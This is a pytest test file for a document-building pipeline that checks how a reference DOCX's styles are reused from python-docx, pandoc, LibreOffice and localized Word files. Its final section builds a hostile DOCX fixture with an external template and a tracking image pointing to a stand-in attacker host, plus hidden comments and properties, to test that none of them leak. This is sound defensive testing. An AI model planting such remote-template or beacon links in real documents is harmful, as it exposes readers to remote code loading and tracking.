"""`reference_docx` made by python-docx, pandoc, LibreOffice and a Word in
another UI language: built through the CLI in process, the DOCX read back
with python-docx. Styles are found by built-in identity, missing ones are
added, the reference's look stays where the config is silent, and a broken
reference is named in a usage error. Also: nothing but styles, numbering,
theme, fonts and page setup passes from a hostile reference into a brief."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from docx import Document as open_docx
from docx.document import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml.ns import qn
from docx.shared import Pt

from pipeline.cli import main

from .libreoffice import BINARY as LIBREOFFICE
from .libreoffice import needs_libreoffice

ROOT = Path(__file__).resolve().parent.parent
ARTICLE = ROOT / "examples" / "poutine-iran.txt"
PANDOC = shutil.which("pandoc")


def build(folder: Path, config: str, formats: str = "docx") -> tuple[int, str, Path | None]:
    (folder / "config.yaml").write_text(config, encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    dist = folder / "dist"
    code = main(
        ["build", str(ARTICLE), "-c", str(folder / "config.yaml"), "-o", str(dist), "-f", formats],
        out,
        err,
    )
    built = sorted(dist.glob("*.docx")) if dist.is_dir() else []
    return code, err.getvalue(), built[0] if built else None


def styles_by_id(doc: Document) -> dict[str, object]:
    return {s.get(qn("w:styleId")): s for s in doc.styles.element.findall(qn("w:style"))}


def assert_sound(doc: Document) -> None:
    """One style per ID, every paragraph's style defined, one Heading 1 identity."""
    ids = Counter(s.get(qn("w:styleId")) for s in doc.styles.element.findall(qn("w:style")))
    assert [style_id for style_id, n in ids.items() if n > 1] == []
    for paragraph in doc.paragraphs:
        style = paragraph._p.style
        assert style is None or style in ids, style
    names = [
        s.find(qn("w:name")).get(qn("w:val")).casefold()
        for s in doc.styles.element.findall(qn("w:style"))
        if s.find(qn("w:name")) is not None
    ]
    assert names.count("heading 1") == 1


def headings(doc: Document) -> list[str]:
    return [p.text for p in doc.paragraphs if p.style.name == "Heading 1"]


def is_numbered(doc: Document, name: str = "List Bullet") -> bool:
    style = doc.styles[name].element
    num_id = style.find(f"{qn('w:pPr')}/{qn('w:numPr')}/{qn('w:numId')}")
    if num_id is None:
        return False
    numbering = doc.part.numbering_part.element
    nums = {n.get(qn("w:numId")) for n in numbering.findall(qn("w:num"))}
    return num_id.get(qn("w:val")) in nums


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Document:
    """The example without a reference, to compare headings with."""
    code, err, docx = build(tmp_path_factory.mktemp("plain"), "theme: note\n")
    assert code == 0 and docx is not None, err
    return open_docx(str(docx))


# -- python-docx (always) ------------------------------------------------------------


def test_a_python_docx_reference_keeps_its_look_where_the_config_is_silent(
    tmp_path: Path, plain: Document
) -> None:
    reference = open_docx()
    normal = reference.styles["Normal"]
    normal.font.name = "Georgia"
    normal.font.size = Pt(12)
    reference.save(str(tmp_path / "house.docx"))
    code, err, docx = build(tmp_path, "reference_docx: house.docx\n")
    assert code == 0 and docx is not None, err
    doc = open_docx(str(docx))
    assert_sound(doc)
    assert headings(doc) == headings(plain)
    assert doc.styles["Normal"].font.name == "Georgia"  # the layout's default left aside
    assert doc.styles["Normal"].font.size == Pt(12)


def test_fonts_the_config_sets_apply_over_the_reference(tmp_path: Path) -> None:
    reference = open_docx()
    reference.styles["Normal"].font.name = "Georgia"
    reference.save(str(tmp_path / "house.docx"))
    config = "reference_docx: house.docx\nlayout:\n  fonts:\n    body: {family: DejaVu Serif, size: 11pt}\n"
    code, err, docx = build(tmp_path, config)
    assert code == 0 and docx is not None, err
    normal = open_docx(str(docx)).styles["Normal"]
    assert normal.font.name == "DejaVu Serif"
    assert normal.font.size == Pt(11)


def test_a_reference_saved_by_a_word_in_another_language(tmp_path: Path, plain: Document) -> None:
    """Word writes localized style IDs and English lower-case names ("heading 1");
    LibreOffice may write English IDs and localized names. Both are found; a
    missing built-in style (List Bullet) is added with its list numbering."""
    reference = open_docx()
    by_id = styles_by_id(reference)
    heading = by_id["Heading1"]
    heading.set(qn("w:styleId"), "berschrift1")
    heading.find(qn("w:name")).set(qn("w:val"), "heading 1")
    for style in reference.styles.element.findall(qn("w:style")):
        based = style.find(qn("w:basedOn"))
        if based is not None and based.get(qn("w:val")) == "Heading1":
            based.set(qn("w:val"), "berschrift1")
    by_id["Title"].find(qn("w:name")).set(qn("w:val"), "Titel")  # localized name, English ID
    reference.styles.element.remove(by_id["ListBullet"])
    reference.styles.element.remove(by_id["ListNumber"])
    numbering = reference.part.part_related_by(RT.NUMBERING)
    for rel_id, rel in list(reference.part.rels.items()):
        if rel.reltype == RT.NUMBERING:
            reference.part.rels.pop(rel_id)  # no numbering part at all
    reference.save(str(tmp_path / "de.docx"))
    assert numbering.partname[1:] not in zipfile.ZipFile(tmp_path / "de.docx").namelist()

    code, err, docx = build(tmp_path, "reference_docx: de.docx\n")
    assert code == 0 and docx is not None, err
    doc = open_docx(str(docx))
    assert_sound(doc)
    ids = styles_by_id(doc)
    assert "Heading1" not in ids  # the reference's own heading style is used
    heading_ids = {p._p.style for p in doc.paragraphs if p.text in headings(plain)}
    assert heading_ids == {"berschrift1"}
    assert {p._p.style for p in doc.paragraphs if p.style.name == "Title"} == {"Title"}
    assert is_numbered(doc) and is_numbered(doc, "List Number")
    # The sources: a list in the List Bullet style's numbering (their own style is based on it).
    sources = [p for p in doc.paragraphs if p.style.name == "Brief Source"]
    assert sources and all(p.style.base_style.name == "List Bullet" for p in sources)


# -- pandoc and LibreOffice (when installed) -----------------------------------------


@pytest.fixture(scope="module")
def pandoc_reference(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if PANDOC is None:
        pytest.skip("pandoc is not installed")
    path = tmp_path_factory.mktemp("pandoc") / "custom-reference.docx"
    subprocess.run(
        [PANDOC, "-o", str(path), "--print-default-data-file", "reference.docx"],
        check=True,
        timeout=60,
    )
    return path


def test_pandocs_reference_docx(tmp_path: Path, pandoc_reference: Path, plain: Document) -> None:
    shutil.copy(pandoc_reference, tmp_path / "custom-reference.docx")
    code, err, docx = build(tmp_path, "reference_docx: custom-reference.docx\n", "pdf,docx")
    assert code == 0 and docx is not None, err
    doc = open_docx(str(docx))
    assert_sound(doc)
    assert headings(doc) == headings(plain)
    assert {p._p.style for p in doc.paragraphs if p.style.name == "Heading 1"} == {"Heading1"}
    assert is_numbered(doc)  # pandoc's reference has no List Bullet style
    # pandoc's Body Text and Block Text styles stay available to the user.
    assert {"BodyText", "BlockText"} <= set(styles_by_id(doc))


@needs_libreoffice
def test_a_reference_resaved_by_libreoffice(tmp_path: Path, plain: Document) -> None:
    assert LIBREOFFICE is not None
    source = tmp_path / "src"
    source.mkdir()
    open_docx().save(str(source / "house.docx"))
    subprocess.run(
        [
            LIBREOFFICE,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/lo",
            "--convert-to",
            "docx:MS Word 2007 XML",
            "--outdir",
            str(tmp_path),
            str(source / "house.docx"),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    code, err, docx = build(tmp_path, "reference_docx: house.docx\n")
    assert code == 0 and docx is not None, err
    doc = open_docx(str(docx))
    assert_sound(doc)
    assert headings(doc) == headings(plain)


# -- a broken reference --------------------------------------------------------------


@pytest.mark.parametrize("content", [b"not a zip", b"PK\x03\x04 truncated"])
def test_a_broken_reference_is_a_usage_error_naming_it(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "house.docx").write_bytes(content)
    code, err, docx = build(tmp_path, "reference_docx: house.docx\n", "pdf,docx")
    assert code == 2
    assert docx is None and not list((tmp_path / "dist").glob("*.pdf"))
    (line,) = err.strip().splitlines()
    assert line.startswith(f"error: {tmp_path / 'house.docx'}: reference_docx: ")
    assert ARTICLE.name not in line


def test_a_reference_whose_normal_style_is_no_paragraph_style(tmp_path: Path) -> None:
    reference = open_docx()
    normal = styles_by_id(reference)["Normal"]
    normal.set(qn("w:type"), "character")
    reference.save(str(tmp_path / "house.docx"))
    code, err, docx = build(tmp_path, "reference_docx: house.docx\n")
    assert code == 2 and docx is None
    assert err.startswith(f"error: {tmp_path / 'house.docx'}: reference_docx: its styles")
    assert "'Normal' is not a paragraph style" in err


# -- a hostile reference (issue 21 §7) -----------------------------------------------

ATTACKER = "http://attacker.invalid"
SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    f'relationships/attachedTemplate" Target="{ATTACKER}/t.dotm" TargetMode="External"/>'
    "</Relationships>"
)


def hostile_reference(path: Path) -> None:
    """A reference carrying a comment, a header, custom properties, custom XML,
    an external template and an external image, each holding a marker."""
    doc = open_docx()
    doc.add_paragraph("SECRET-BODY")
    doc.sections[0].header.paragraphs[0].text = "SECRET-HEADER"
    doc.add_comment(doc.paragraphs[-1].runs or [doc.paragraphs[-1].add_run("x")], "SECRET-COMMENT")
    doc.core_properties.category = "SECRET-CATEGORY"
    doc.part.relate_to(
        f"{ATTACKER}/pixel.png",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
        is_external=True,
    )
    buffer = io.BytesIO()
    doc.save(buffer)
    with (
        zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source,
        zipfile.ZipFile(path, "w") as target,
    ):
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "word/settings.xml":
                data = data.replace(
                    b"<w:defaultTabStop",
                    b'<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop',
                    1,
                )
            if info.filename == "_rels/.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties" Target="docProps/custom.xml"/></Relationships>',
                )
            if info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>',
                )
            target.writestr(info, data)
        target.writestr("word/_rels/settings.xml.rels", SETTINGS_RELS)
        target.writestr(
            "docProps/custom.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
            'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
            '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Leak">'
            "<vt:lpwstr>SECRET-CUSTOM</vt:lpwstr></property></Properties>",
        )
    names = zipfile.ZipFile(path).namelist()
    assert "word/comments.xml" in names and "customXml/item1.xml" in names  # the test's premise


def test_a_hostile_reference_passes_on_only_its_styles(tmp_path: Path) -> None:
    hostile_reference(tmp_path / "house.docx")
    code, err, docx = build(tmp_path, "reference_docx: house.docx\n")
    assert code == 0 and docx is not None, err
    with zipfile.ZipFile(docx) as package:
        names = package.namelist()
        texts = {name: package.read(name).decode("utf-8", "replace") for name in names}
    assert not [n for n in names if re.match(r"(customXml/|docProps/custom|word/comments)", n)]
    assert "word/settings.xml" in names and "word/styles.xml" in names
    for name, text in texts.items():
        assert "SECRET" not in text, name
        assert "attacker.invalid" not in text, name
        assert "attachedTemplate" not in text, name
    external = [
        match
        for name, text in texts.items()
        if name.endswith(".rels")
        for match in re.findall(r"<Relationship [^>]*TargetMode=\"External\"[^>]*>", text)
    ]
    assert all("/relationships/hyperlink" in rel for rel in external)  # the brief's own links
    doc = open_docx(str(docx))
    assert_sound(doc)
